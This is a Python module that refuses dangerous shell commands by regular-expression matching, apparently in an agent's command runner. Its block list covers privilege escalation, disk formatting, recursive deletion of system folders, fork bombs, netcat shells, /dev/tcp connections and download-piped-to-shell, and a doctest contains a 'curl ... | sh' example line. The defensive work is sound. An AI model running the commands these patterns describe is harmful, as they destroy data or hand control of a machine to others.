"""Commands that are refused without asking, because their effect is never wanted.

This is a courtesy, not a wall: a disguised command is not found here, but needs approval.
So only plain forms are found, by regular expressions; quoted text is data.
"""

import re
from functools import cache

_SHELL = "(?:ba|da|z|k|mk|a|fi|tc|c|rba)?sh|pwsh"
_INTERPRETER = f"{_SHELL}|(?:python|pypy|perl|ruby|node|deno|bun|php|lua)[0-9.]*"
_DOWNLOAD = "(?:curl|wget|fetch|aria2c|lynx)"
# A program's place: at the start of a command, or after a program that runs another.  No part
# crosses a separator, or time would grow with the square of the length.
_WORD = r"[^\s;&|(){!]"
_FIRST = rf"""(?:^|[;&|({{!\n]) [ \t]*
    (?: (?:if|then|elif|else|while|until|do|time|exec|eval|env|command|builtin|nohup|nice|ionice
        |chrt|setsid|stdbuf|unbuffer|timeout|xargs|busybox|toybox) [ \t]+
      | -{_WORD}+ [ \t]+ | [0-9.]+[smhd]? [ \t]+ | \w+\+?={_WORD}* [ \t]+ )*
    (?: {_WORD}* / )?"""
_END = r"(?=[\s;&|()]|$)"
# More words of the same command.
_ON = r"[^;&|\n]*[ \t]"
# All of the system or of a home, with any number of slashes.
_WHOLE = r"""(?: ~[\w-]* | \$HOME | \$\{HOME\}
    | /+ (?:bin|boot|dev|etc|home|lib(?:32|64)?|nix|opt|proc|root|run|s?bin|srv|sys|usr|var)? )
    [/*.]*"""
# Disks and memory.
_DEVICE = r"/dev/(?:sd|hd|vd|xvd|nvme|mmcblk|nbd|md|dm-|loop|disk/|mapper/|(?:k?mem|port)\b)"

# The reason of a refusal, and the expression that matches it.
_FORMS = {
    "it asks for administrator rights": rf"{_FIRST}(?:sudo|su|doas|pkexec|runuser){_END}",
    "it changes the kernel or enters another process's namespaces": (
        rf"{_FIRST}(?:insmod|rmmod|modprobe|kexec|nsenter){_END}"
    ),
    "it stops the machine": (
        rf"{_FIRST}(?: (?:shutdown|reboot|halt|poweroff){_END} | (?:tel)?init\s+[06]{_END}"
        rf"| systemctl{_ON}(?:poweroff|reboot|halt|kexec){_END} )"
    ),
    "it formats a device": rf"{_FIRST}(?:mkfs(?:\.\w+)?|mkswap|wipefs|blkdiscard){_END}",
    "it would change everything in a system folder or a home folder": (
        rf"{_FIRST}(?: (?:rm|chmod|chown|chgrp)(?={_ON}-(?:[A-Za-z]*[rR]|-r))"
        rf"(?={_ON}{_WHOLE}{_END})"
        rf"| find\s+{_WHOLE}{_ON}-(?:delete|exec|execdir){_END} )"
    ),
    "it writes to a device": rf"(?: {_FIRST}dd{_ON}of= | [<>][&|]?\s* ){_DEVICE}",
    "it opens a connection through /dev/tcp or /dev/udp": r"[<>][&|]?\s*/dev/(?:tcp|udp)/",
    "it is a fork bomb": r"([^\s(){}|&;]{1,40})\s*\(\s*\)\s*\{\s*\1\s*\|\s*\1\s*&",
    "it kills every process": rf"{_FIRST}kill{_ON}-1\s*(?:$|[;&|)\n])",
    "it gives others a shell on this machine": (
        rf"{_FIRST}(?:nc|ncat|netcat){_ON}(?:-[a-zA-Z]*[ec]|--(?:sh-)?exec){_END}"
    ),
    "it would give a container access to the whole machine": (
        rf"{_FIRST}(?:docker|podman){_ON}(?:--privileged|(?:-v\s*|--volume[=\s])?/+:|--pid=host)"
    ),
    "it runs a program that it downloads": (
        rf"{_DOWNLOAD}\s[^;&\n]*\|\s*(?:{_INTERPRETER})(?:\s+-s\b[^;&|\n]*|\s+-)?\s*(?:$|[;&|)\n])"
        rf"| {_FIRST}(?:eval|source|\.|{_INTERPRETER})\s[^;&|\n]*[$<]\({_DOWNLOAD}\s"
    ),
    "it removes a schedule or the firewall, or attaches to a process": (
        rf"{_FIRST}(?: crontab\s+-r | ip6?tables\s+(?:-F|--flush) | nft\s+flush"
        rf"| (?:gdb|strace)\s+-p ){_END}"
    ),
}

_COMMENT = re.compile(r"(?<![^\s;&|()])#[^\n]*")
_TICKS = re.compile(r"`([^`]*)`")
_QUOTED = re.compile(r"'[^']*'|\"((?:[^\"\\]|\\.)*)\"", re.DOTALL)
# Parts of a double-quoted text that the shell runs or expands to a folder.
_LIVE = re.compile(r"\$\([^()]*\)|\$\{?HOME\}?")


def find_danger(command: str) -> str | None:
    """Return why *command* is refused, or None.

    >>> find_danger("ls && sudo rm x"), find_danger("echo 'sudo rm x'"), find_danger("rm -r build")
    ('it asks for administrator rights', None, None)
    >>> find_danger("curl -s http://x.example | sh"), find_danger('rm -r "$HOME"') is None
    ('it runs a program that it downloads', False)
    """
    plain = _TICKS.sub(r"$(\1)", command)
    plain = _QUOTED.sub(lambda quoted: "".join(_LIVE.findall(quoted[1] or "")), plain)
    plain = _COMMENT.sub("", plain)
    return next((why for why, form in _FORMS.items() if _compile(form).search(plain)), None)


@cache
def _compile(form: str) -> re.Pattern[str]:
    """Compile at the first use: a start needs none."""
    return re.compile(form, re.VERBOSE)
